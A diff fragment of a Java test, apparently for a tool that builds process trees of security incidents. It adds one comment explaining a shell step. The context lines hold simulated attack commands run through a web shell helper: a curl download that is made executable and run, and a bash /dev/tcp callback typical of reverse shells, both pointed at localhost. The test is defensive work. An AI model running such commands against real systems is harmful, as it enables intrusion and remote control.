@@ -107,6 +107,7 @@ class IncidentTreeTest {
             web.shell("curl -so " + dropped + " http://127.0.0.1:" + web.port + "/x && chmod +x " + dropped
                     + " && " + dropped);
             web.get("/date.php");
+            // '; true': the callback's bash must be a child, so the connection hangs under it in the tree.
             web.shell("bash -c 'exec 3<>/dev/tcp/127.0.0.1/" + CALLBACK_PORT + "'; true");
             web.get("/date.php");
 
